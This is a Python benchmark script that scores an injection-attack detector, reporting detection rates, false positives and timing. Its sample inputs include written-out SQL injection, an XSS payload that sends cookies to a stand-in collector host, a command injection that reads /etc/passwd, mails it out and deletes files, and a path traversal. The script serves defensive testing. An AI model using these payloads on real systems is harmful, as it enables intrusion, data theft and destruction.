"""How many attacks are found, how many ordinary values are mistaken for one, and what a look costs.

    python benchmarks/detection.py [--data PATH] [--misses]

PATH is a CSV with the columns payload and attack_type (norm, sqli, xss, path-traversal, cmdi). Nothing of
the detection is learned from data, so there is no fold to leave out: every rate is that of the same fixed
functions.
"""

from __future__ import annotations

import argparse
import csv
import time
import timeit
from collections import Counter
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from metlo_otel.analysis.attacks import inspect

CATEGORY = {
    "sqli": "SQLI",
    "xss": "XSS",
    "path-traversal": "DIRECTORY_TRAVERSAL",
    "cmdi": "COMMAND_EXECUTION",
}
ORDINARY = (
    "maria.garcia-lopez@example.com",
    "Calle de la Princesa 31, 4 izq",
    "https://example.com/items/4711",
    "a quite ordinary search phrase",
    "5f1d7e2a-3b0c-4c1e-9d5f-7a6b8c",
    "O'Brien & Sons (Dublin) 2024-5",
)
SUSPICIOUS = (
    "1' AND 7756=(SELECT COUNT(*) FROM information_schema.tables AS t1, sysusers AS t2) AND 'fo'='fo' -- x",
    '"><img src=x onerror="fetch(`https://collector.example/?c=${document.cookie}`)"><b title="some text">',
    "Dear team; the meeting (see 'agenda' & notes) is at 10:30 = half past ten; \"bring\" <your> laptop",
    "127.0.0.1; cat /etc/passwd | mail -s 'found it' somebody@example.com && rm -rf /tmp/traces_of_what_i_",
    "/static/../../../../../../../../../../../../../../../../../../../../../../../var/log/apache2/access.log",
)


def main() -> None:
    """Print the rates (with data) and the times."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--data", type=Path)
    parser.add_argument("--misses", action="store_true", help="print what was missed or mistaken")
    options = parser.parse_args()
    if options.data is not None:
        rates(options.data, options.misses)
    times("ordinary, 30 characters", ORDINARY)
    times("suspicious, about 100 characters", SUSPICIOUS)


def rates(data: Path, misses: bool) -> None:
    """True and false positives for each category of a labelled file."""
    total: Counter[str] = Counter()
    found: Counter[str] = Counter()
    certain: Counter[str] = Counter()
    for kind, payload in _labelled(data):
        findings = inspect(payload)
        wanted = CATEGORY.get(kind)
        right = [finding for finding in findings if wanted in (None, finding.category)]
        total[kind] += 1
        found[kind] += bool(right)
        certain[kind] += any(finding.confidence == "high" for finding in right)
        if misses and bool(right) == (wanted is None):
            print(f"  {kind}: {payload[:150]!r} {[finding.category for finding in findings]}")
    for kind in sorted(total, key=lambda kind: (kind == "norm", kind)):
        label = "false positives" if kind == "norm" else "found"
        print(
            f"{kind:15} {label:15} {found[kind]:6} of {total[kind]:6} = {found[kind] / total[kind]:8.3%}"
            f"   with high confidence {certain[kind] / total[kind]:8.3%}"
        )


def times(title: str, values: tuple[str, ...]) -> None:
    """CPU microseconds for each value, the best of five rounds."""
    print(f"{title}:")
    for value in values:
        rounds = timeit.repeat(partial(inspect, value), timer=time.process_time, number=2000, repeat=5)
        print(f"  {min(rounds) / 2000 * 1e6:6.1f} µs  {value[:70]!r}")


def _labelled(data: Path) -> Iterator[tuple[str, str]]:
    with data.open(newline="", encoding="utf-8") as lines:
        for row in csv.DictReader(lines):
            yield row["attack_type"], row["payload"]


if __name__ == "__main__":
    main()
